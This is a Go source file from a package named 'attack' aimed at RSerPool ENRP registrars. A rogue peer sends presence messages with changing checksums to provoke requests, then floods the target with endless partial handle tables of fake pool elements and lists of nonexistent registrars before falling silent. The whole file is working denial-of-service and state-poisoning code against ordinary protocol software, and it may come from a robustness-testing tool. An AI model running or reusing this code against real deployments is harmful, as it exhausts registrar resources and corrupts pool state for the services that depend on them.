package attack

import (
	"context"
	"fmt"
	"time"

	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/enrpmsg"
)

const (
	tablePartElements = 128
	rogueRepeat       = 200 * time.Millisecond
	listedPeers       = 1000
)

// sendTables answers each request for the handle table by a part with elements, and promises more. Signs of life with
// changing checksums make the target ask. At the end the rogue falls silent, and the target has to get rid of it all.
func sendTables(ctx context.Context, w *work) error {
	var r rogue
	parts := 0
	r.table = func() *enrpmsg.HandleTableResponse {
		entry := enrpmsg.PoolEntry{PoolHandle: wire.PoolHandle(fmt.Sprint("Table", parts))}
		for i := range tablePartElements {
			entry.PoolElements = append(entry.PoolElements, rogueElement(&r, wire.PEID(i+1)))
		}
		parts++
		w.count(tablePartElements)
		return &enrpmsg.HandleTableResponse{IDs: r.ids(), MoreToSend: true, Entries: []enrpmsg.PoolEntry{entry}}
	}
	return w.beg(ctx, &r)
}

// listPeers answers each request for the list of registrars by registrars that do not exist.
func listPeers(ctx context.Context, w *work) error {
	var r rogue
	lists := 0
	r.list = func() *enrpmsg.ListResponse {
		m := &enrpmsg.ListResponse{IDs: r.ids()}
		for i := range listedPeers {
			id := wire.ServerID(0x10000 + lists*listedPeers + i)
			m.Servers = append(m.Servers, wire.ServerInformation{ID: id, Transport: transportAt(neighbour(&r, i))})
		}
		lists++
		w.count(listedPeers)
		return m
	}
	return w.beg(ctx, &r)
}

// beg sends signs of life, so that the target asks the rogue.
func (w *work) beg(ctx context.Context, r *rogue) error {
	if err := w.joinAs(ctx, rogueID, r); err != nil {
		return err
	}
	defer r.close()
	for i := 0; Pause(ctx, rogueRepeat); i++ {
		if err := r.tell(ctx, r.presence(uint16(i))); err != nil {
			return w.endError(ctx, err)
		}
	}
	return nil
}
